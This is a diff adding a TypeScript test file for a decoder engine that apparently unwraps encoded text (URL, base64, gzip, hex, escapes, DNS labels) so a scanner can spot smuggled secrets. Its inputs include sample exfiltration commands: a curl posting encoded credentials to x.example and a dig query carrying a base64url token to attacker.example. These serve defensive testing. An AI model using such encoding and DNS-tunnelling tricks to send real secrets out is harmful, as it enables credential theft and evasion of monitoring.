@@ -1,0 +1,117 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { gzipSync } from 'node:zlib';
+import { ALL_DECODERS, views, type Decoder } from '../../src/engine/decoders.ts';
+
+const SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCY1234abcd';
+const dec = (name: string): Decoder => ALL_DECODERS.find((d) => d.name === name) as Decoder;
+/** Does some view of `text` contain `want`, and through which decoders? */
+function found(text: string, want: string): string[] | null {
+  for (const v of views(text)) if (v.text.includes(want)) return v.via;
+  return null;
+}
+
+test('percent: single and double URL encoding', () => {
+  const once = encodeURIComponent(`k=${SECRET}&x=1`);
+  assert.deepEqual(found(`https://x.example/?d=${once}`, SECRET), ['url']);
+  assert.deepEqual(found(`https://x.example/?d=${encodeURIComponent(once)}`, SECRET), ['url', 'url']);
+});
+
+test('base64: standard, URL-safe, unpadded', () => {
+  for (const enc of [Buffer.from(SECRET).toString('base64'), Buffer.from(SECRET).toString('base64url'), Buffer.from(SECRET).toString('base64').replace(/=+$/, '')]) {
+    assert.deepEqual(found(`data=${enc}`, SECRET), ['base64'], enc);
+  }
+});
+
+test('gzip+base64: a gzip stream in base64 is inflated', () => {
+  const b64 = gzipSync(Buffer.from(`AWS_SECRET_ACCESS_KEY=${SECRET}\n`)).toString('base64');
+  assert.ok(b64.startsWith('H4sI'));
+  assert.deepEqual(found(`curl -d '${b64}' https://x.example`, SECRET), ['gzip+base64']);
+  // wrapped at 76 columns like `base64` does by default
+  const wrapped = (gzipSync(Buffer.from(SECRET.repeat(8))).toString('base64').match(/.{1,76}/g) as string[]).join('\n');
+  assert.ok(found(wrapped, SECRET));
+});
+
+test('gzip+base64: a bomb is bounded, garbage is ignored', () => {
+  const bomb = gzipSync(Buffer.alloc(5_000_000, 0x41)).toString('base64');
+  const t0 = Date.now();
+  const vs = views(bomb);
+  assert.ok(Date.now() - t0 < 1000);
+  for (const v of vs) assert.ok(v.text.length <= 4 * bomb.length + 65536);
+  assert.equal(dec('gzip+base64').decode('H4sIZZZZZZZZZZZZZZZZZZZZZZZZ', 1000), null);
+});
+
+test('hex', () => {
+  assert.deepEqual(found(Buffer.from(SECRET).toString('hex'), SECRET), ['hex']);
+});
+
+test('escapes: \\uXXXX, \\xHH, octal, JSON and shell escapes', () => {
+  const u = [...SECRET].map((c) => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('');
+  assert.deepEqual(found(`'${u}'`, SECRET), ['escape']);
+  const x = [...SECRET].map((c) => '\\x' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
+  assert.deepEqual(found(`printf '${x}'`, SECRET), ['escape']);
+  const o = [...SECRET].map((c) => '\\' + c.charCodeAt(0).toString(8).padStart(3, '0')).join('');
+  assert.deepEqual(found(`printf '${o}'`, SECRET), ['escape']);
+  assert.equal(dec('escape').decode('{"a":"line1\\nline2 \\"q\\" \\u00e9 \\ud83d\\ude00 \\u{1F600}"}', 1e6), '{"a":"line1\nline2 "q" é 😀 😀"}');
+  assert.equal(dec('escape').decode('\\xc3\\xa9', 100), 'é');
+  assert.equal(dec('escape').decode('no escapes here', 100), null);
+});
+
+test('HTML entities: decimal, hex, named', () => {
+  assert.deepEqual(found([...SECRET].map((c) => `&#${c.charCodeAt(0)};`).join(''), SECRET), ['html']);
+  assert.deepEqual(found([...SECRET].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join(''), SECRET), ['html']);
+  assert.equal(dec('html').decode('a &lt;b&gt; &amp;&quot;c&quot; &#39;d&#39; &unknown; &#X41;', 100), 'a <b> &"c" \'d\' &unknown; A');
+});
+
+test('quoted-printable: soft line breaks are joined, =HH decoded', () => {
+  const card = '4539 1488 0343 6467';
+  // a soft break inside the card number
+  const qp = `Hello,=0D\r\nthe card is ${card.slice(0, 9)}=\r\n${card.slice(9)} exp 04/29, name Ren=C3=A9e`;
+  const d = dec('quoted-printable').decode(qp, 1e6) as string;
+  assert.ok(d.includes(card), d);
+  assert.ok(d.includes('Renée'));
+  assert.deepEqual(found(qp, card), ['quoted-printable']);
+});
+
+test('dns labels: long labels are joined so base64url / hex decode whole', () => {
+  const b = Buffer.from(`token=${SECRET}`).toString('base64url');
+  const name = `${b.slice(0, 40)}.${b.slice(40)}.q.attacker.example`;
+  const via = found(`dig +short ${name}`, SECRET);
+  assert.deepEqual(via, ['dns-labels', 'base64']);
+});
+
+test('nested: base64 of URL-encoded text, escapes inside base64', () => {
+  const inner = encodeURIComponent(`secret=${SECRET}&a=1 b`);
+  assert.deepEqual(found(Buffer.from(inner).toString('base64'), SECRET), ['base64', 'url']);
+  const esc = JSON.stringify({ v: `x\n${SECRET}` }).replace(/[A-Za-z]/g, (c) => '\\u00' + c.charCodeAt(0).toString(16));
+  assert.ok(found(Buffer.from(esc).toString('base64'), SECRET));
+});
+
+test('bounded: depth, number of views and total size', () => {
+  let s = SECRET;
+  for (let i = 0; i < 6; i++) s = Buffer.from(s).toString('base64').replace(/=+$/, '') + '%41';
+  const vs = views(s);
+  assert.ok(vs.length <= 24);
+  for (const v of vs) assert.ok(v.via.length <= 3);
+  const big = 'a%20b+c=d&e=%41 '.repeat(2000);
+  let total = 0;
+  for (const v of views(big).slice(1)) total += v.text.length;
+  assert.ok(total <= 4 * big.length + 65536);
+});
+
+test('plain text yields only itself', () => {
+  assert.equal(views('npm test -- --grep "flow engine"').length, 1);
+});
+
+test('local decoders combine into one view: no explosion of near-identical views', () => {
+  const mixed = JSON.stringify({ a: 'line\\none &amp; two', b: 'x =3D y=\r\nz %41%42 \\u0043' }).repeat(20);
+  const vs = views(mixed);
+  assert.ok(vs.length <= 4, vs.map((v) => v.via.join('>')).join(', '));
+  assert.ok(vs.some((v) => v.via[0]?.includes('+')));
+});
+
+test('layered escaping is undone: \\\\u0052 (an escaped escape) and base64 of base64', () => {
+  const dbl = [...SECRET].map((c) => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('');
+  assert.ok(found(dbl, SECRET));
+  assert.ok(found(Buffer.from(Buffer.from(SECRET).toString('base64')).toString('base64'), SECRET));
+});
